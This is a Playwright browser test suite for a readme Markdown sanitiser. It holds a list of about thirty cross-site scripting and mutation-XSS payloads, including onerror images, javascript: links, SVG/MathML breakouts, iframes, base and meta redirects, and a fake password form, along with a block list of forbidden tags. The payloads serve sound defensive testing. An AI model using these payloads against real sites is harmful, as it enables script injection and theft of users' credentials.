import { join } from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { build, type Rolldown } from 'vite';
import { root } from '../scripts/install.mjs';

/** Tests the sanitiser of readmes in a real browser. The page lacks the console's policy, so only the sanitiser protects it. */

let program = '';
/** One page for all texts, with a new document for each, because a browser context for each would take long. */
let page: Page;

test.beforeAll(async ({ browser }) => {
  page = await browser.newPage();
});
test.beforeEach(async () => {
  await page.unrouteAll();
  await page.goto('about:blank');
});
test.afterAll(() => page.close());

test.beforeAll(async () => {
  const built = await build({
    configFile: false,
    root: join(root, 'web'),
    logLevel: 'error',
    build: {
      write: false,
      lib: {
        entry: join(root, 'web/src/apps/page/readme/sanitise-markdown.ts'),
        name: 'readme',
        formats: ['iife'],
      },
    },
  });
  const [output] = [built].flat() as Rolldown.RolldownOutput[];
  program = output?.output[0].code ?? '';
});

type Shown = {
  html: string;
  /** Whether any part of the text acted. */
  acted: boolean;
  /** The addresses that the browser requested. */
  asked: string[];
};

/** Puts the sanitised text into a page, and its HTML into a second place, which would trigger a mutation attack. */
async function show(text: string): Promise<Shown> {
  const asked: string[] = [];
  await page.route('**/*', (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  await page.setContent('<!doctype html><main></main><aside></aside>');
  await page.addScriptTag({ content: program });
  const html = await page.evaluate((markdown) => {
    const { sanitiseMarkdown } = Reflect.get(window, 'readme') as {
      sanitiseMarkdown: (text: string) => DocumentFragment;
    };
    Reflect.set(window, 'act', () => Reflect.set(window, 'acted', true));
    const main = document.querySelector('main');
    const aside = document.querySelector('aside');
    main?.replaceChildren(sanitiseMarkdown(markdown));
    const written = main?.innerHTML ?? '';
    if (aside) aside.innerHTML = written;
    return written;
  }, text);
  for (const link of await page.locator('main a').all()) {
    await link.evaluate((element) => element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })));
  }
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 30)));
  return { html, acted: await page.evaluate(() => Boolean(Reflect.get(window, 'acted'))), asked };
}

const hostile: Record<string, string> = {
  'a script': '<script>act()</script>',
  'a script in pieces': '<scr<script>ipt>act()</scr</script>ipt>',
  'an image that fails': '<img src=x onerror=act()>',
  'an image of Markdown': '![x](https://elsewhere.example/track.png)',
  'an image of Markdown that breaks out': '![x"onerror="act()](x)',
  'a handler on a plain element':
    '<p onmouseover="act()" onclick="act()">x</p><b onfocus=act() tabindex=1 autofocus>y</b>',
  'a link of javascript': '[x](javascript:act())',
  'a link of javascript in other letters':
    '[x](JaVaScRiPt:act()) <a href="jav&#x09;ascript:act()">y</a> <a href=" &#14; javascript:act()">z</a>',
  'a link of data':
    '[x](data:text/html,<script>act()</script>) <a href="data:text/html;base64,PHNjcmlwdD4=">y</a>',
  'a link of vbscript and of a file':
    '<a href="vbscript:act()">x</a> <a href="file:///etc/passwd">y</a> <a href="//elsewhere.example">z</a>',
  'a drawing':
    '<svg onload=act()><script>act()</script><a xlink:href="javascript:act()"><text>x</text></a></svg>',
  'a drawing that animates an address':
    '<svg><a><animate attributeName=href values=javascript:act() /><text>x</text></a></svg>',
  'formulas around a style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=act()&gt;">',
  'formulas around a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=act()>',
  'a comment that ends early': '<!--><img src=x onerror=act()>--> <!--- --!><img src=x onerror=act()>-->',
  'a title that is no title': '<noscript><p title="</noscript><img src=x onerror=act()>"></noscript>',
  'an attribute that ends another':
    '<a title="</title><img src=x onerror=act()>">x</a><textarea></textarea><img src=x onerror=act()>',
  'text in another namespace': '<svg></p><style><a id="</style><img src=1 onerror=act()>">',
  'CDATA in a drawing': '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=act()//"></svg>',
  'a template':
    '<template><img src=x onerror=act()></template><div><template shadowrootmode=open><script>act()</script></template></div>',
  'a style':
    '<style>@import "https://elsewhere.example/x.css"; body { display: none }</style><p style="position:fixed;inset:0;background:url(https://elsewhere.example/y)">x</p>',
  'a form':
    '<form action="https://elsewhere.example"><input name=password autofocus onfocus=act()><button formaction="javascript:act()">Sign in</button></form>',
  'a frame':
    '<iframe src="javascript:act()"></iframe><iframe srcdoc="<script>parent.act()</script>"></iframe><object data="x.swf"></object><embed src=x>',
  'what steers the page':
    '<base href="https://elsewhere.example/"><meta http-equiv=refresh content="0;url=javascript:act()"><link rel=stylesheet href="https://elsewhere.example/z.css">',
  'sounds and moving pictures':
    '<video src=https://elsewhere.example/v onerror=act()></video><audio src=x onerror=act()></audio><picture><source srcset=https://elsewhere.example/s onerror=act()></picture>',
  'names that hide what the page uses':
    '<a id=body name=querySelector>x</a><form id=document><input name=cookie></form>',
  'a table with a background':
    '<table background="https://elsewhere.example/t"><tr><td background="javascript:act()">x</td></tr></table>',
  'a dialog and details':
    '<dialog open>Sign in again</dialog><details open ontoggle=act()><summary>x</summary></details>',
  'code that is shown': '```html\n<script>act()</script>\n```\n\n`<img src=x onerror=act()>`',
};

const forbidden =
  'script,style,form,iframe,frame,object,embed,svg,math,base,meta,link,img,picture,source,video,audio,input,button,select,textarea,dialog,template,noscript';

for (const [what, text] of Object.entries(hostile)) {
  test(`${what} does not act, fetches nothing and leaves nothing that could`, async () => {
    const { html, acted, asked } = await show(text);
    expect(acted, html).toBe(false);
    expect(asked).toEqual([]);
    const left = await page.evaluate((unwanted) => {
      const all = [...document.querySelectorAll('main *, aside *')];
      return {
        elements: all.filter((element) => element.matches(unwanted)).map(({ outerHTML }) => outerHTML),
        attributes: all.flatMap((element) =>
          element
            .getAttributeNames()
            .filter((name) => /^on|^(?:style|id|name|class|background|srcset|src)$/.test(name)),
        ),
        links: all
          .flatMap((element) => element.getAttribute('href') ?? [])
          .filter((href) => !/^(?:https?:|mailto:)/.test(href)),
      };
    }, forbidden);
    expect(left, html).toEqual({ elements: [], attributes: [], links: [] });
  });
}

test('shows the usual parts of a readme, with headings below those of the page', async () => {
  const text = [
    '# Ledger',
    '## Run it',
    'Run `npm start`, *then* **wait**. See [the guide](https://example.com/guide) or <mailto:ines@example.com>.',
    '- one',
    '- two',
    '',
    '| a | b |',
    '| - | - |',
    '| 1 | 2 |',
    '',
    '###### Deep',
  ].join('\n');
  await show(text);
  const main = page.getByRole('main');
  await expect(main.getByRole('heading', { level: 3, name: 'Ledger' })).toBeVisible();
  await expect(main.getByRole('heading', { level: 4, name: 'Run it' })).toBeVisible();
  await expect(main.getByRole('heading', { level: 6, name: 'Deep' })).toBeVisible();
  await expect(main.getByRole('listitem')).toHaveText(['one', 'two']);
  await expect(main.getByRole('cell')).toHaveText(['1', '2']);
  await expect(main.locator('code')).toHaveText('npm start');
  const link = main.getByRole('link', { name: 'the guide' });
  await expect(link).toHaveAttribute('href', 'https://example.com/guide');
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
});
